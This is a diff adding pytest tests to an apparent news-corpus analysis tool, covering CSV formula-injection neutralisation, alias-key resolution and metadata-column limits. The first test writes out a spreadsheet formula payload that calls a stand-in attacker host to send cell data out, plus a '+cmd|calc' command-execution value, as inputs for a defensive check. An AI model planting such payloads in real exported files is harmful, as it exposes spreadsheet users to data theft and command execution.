@@ -874,3 +874,111 @@ def test_csv_field_over_the_limit_over_many_lines_is_one_problem(tmp_path):
             "max_bytes limit of 1,000; lines 3-200003 skipped",
         )
     ]
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised_parquet_is_exact(tmp_path):
+    from analysis.runner import read_results
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    corpus = tmp_path / "c"
+    write(corpus, "a.txt", f"---\ntitle: '{formula}'\noutlet: '+cmd|calc'\n---\n{GOOD}")
+    write(
+        corpus,
+        "b.txt",
+        "---\ntitle: '@SUM(1)'\noutlet: '-2+3'\n---\n“=1+1 is two,” said Ann Lee.\n",
+    )
+    out = tmp_path / "out"
+    assert main(["analyze", str(corpus), "--out", str(out), "--jobs", "1", "--quiet"]) == 0
+    articles = pd.read_csv(out / "articles.csv", dtype=str, keep_default_na=False)
+    assert articles["title"].tolist() == [f"'{formula}", "'@SUM(1)"]
+    assert articles["outlet"].tolist() == ["'+cmd|calc", "'-2+3"]
+    quotes = pd.read_csv(out / "quotes.csv", dtype=str, keep_default_na=False)
+    assert "'=1+1 is two," in quotes["text"].tolist()
+    balance = pd.read_csv(out / "balance.csv", dtype=str, keep_default_na=False)
+    assert set(balance["outlet"]) == {"'+cmd|calc", "'-2+3"}
+    for path in out.rglob("*.csv"):  # no text cell of any CSV starts like a formula
+        table = pd.read_csv(path, dtype=str, keep_default_na=False)
+        for column in table.columns:
+            text = table[column].loc[lambda v: pd.to_numeric(v, errors="coerce").isna()]
+            assert not text.str.match(r"[=+\-@]").any(), (path.name, column)
+    exact = read_results(out)  # Parquet keeps the values as they are
+    assert exact.articles["title"].tolist() == [formula, "@SUM(1)"]
+    assert "=1+1 is two," in exact.quotes["text"].tolist()
+
+
+def test_alias_keys_in_one_record_say_which_won(tmp_path):
+    write(
+        tmp_path,
+        "a.jsonl",
+        '{"body": "Body text.", "text": "Text text.", "id": "x1", "article_id": "a1"}\n'
+        '{"body": "B2.", "text": "T2.", "id": "x2", "article_id": "a2"}\n'
+        '{"TEXT": "Upper.", "text": "Lower.", "id": "a3"}\n',
+    )
+    write(tmp_path, "b.csv", "body,id,text,article_id\nB4.,x4,T4.,a4\n")
+    corpus = load_corpus(tmp_path)
+    # the field named as the key itself wins, whatever the order; else the first
+    assert corpus.articles[["article_id", "text"]].values.tolist() == [
+        ["a1", "Text text."],
+        ["a2", "T2."],
+        ["a3", "Upper."],
+        ["a4", "T4."],
+    ]
+    assert rows(corpus.problems) == [
+        (
+            "a.jsonl:1",
+            "MetadataError",
+            "'text' and 'body' both give 'text': 'text' used, 'body' ignored; 'article_id' and "
+            "'id' both give 'article_id': 'article_id' used, 'id' ignored (the record is "
+            "loaded; said once per file)",
+        ),
+        (
+            "a.jsonl:3",
+            "MetadataError",
+            "'TEXT' and 'text' both give 'text': 'TEXT' used, 'text' ignored (the record is "
+            "loaded; said once per file)",
+        ),
+        (
+            "b.csv",
+            "MetadataError",
+            "'text' and 'body' both give 'text': 'text' used, 'body' ignored; 'article_id' and "
+            "'id' both give 'article_id': 'article_id' used, 'id' ignored, in every record "
+            "(the records are loaded)",
+        ),
+    ]
+
+
+def test_a_key_per_record_keeps_the_articles_table_narrow(tmp_path, capsys):
+    from analysis.store import MAX_METADATA_COLUMNS
+
+    n = MAX_METADATA_COLUMNS + 50
+    lines = [
+        json.dumps({"id": f"a{i:03d}", "text": GOOD, "desk": "metro", f"key_{i:03d}": "v"})
+        for i in range(n)
+    ]
+    lines[0] = json.dumps({"id": "a000", "text": GOOD, "key_000": "v", "key_001": "w"})
+    write(tmp_path / "c", "a.jsonl", "\n".join(lines) + "\n")
+    out = tmp_path / "out"
+    argv = ["analyze", str(tmp_path / "c"), "--out", str(out), "--jobs", "1", "--quiet"]
+    assert main([*argv, "--no-sentiment", "--chunk-size", "40"]) == 0
+    articles = pd.read_csv(out / "articles.csv", dtype=str, keep_default_na=False)
+    extra = [c for c in articles.columns if c == "desk" or c.startswith("key_")]
+    # desk (149 articles) and key_001 (2) first, then the one-article keys in name order:
+    # 100 kept of 151 (desk and key_000 to key_149)
+    assert extra == sorted(["desk", "key_001", *[f"key_{i:03d}" for i in [0, *range(2, 99)]]])
+    problems = pd.read_csv(out / "problems.csv", dtype=str, keep_default_na=False)
+    assert problems.values.tolist() == [
+        [
+            "articles table",
+            "MetadataError",
+            f"51 metadata keys are not columns of the articles table, which keeps the "
+            f"{MAX_METADATA_COLUMNS} found in most articles: key_099, key_100, key_101, "
+            "key_102, key_103, key_104, key_105, key_106, key_107, key_108 and 41 more; the "
+            "corpus files still hold them",
+        ]
+    ]
+
+
+def test_alias_keys_in_front_matter_resolve_like_records(tmp_path):
+    write(tmp_path, "a.txt", "---\narticle_id: kept\nid: ignored\n---\nA\n\n" + GOOD)
+    write(tmp_path, "b.txt", "---\nid: ignored-too\narticle_id: kept-too\n---\nB\n\n" + GOOD)
+    assert load_corpus(tmp_path).articles["article_id"].tolist() == ["kept", "kept-too"]
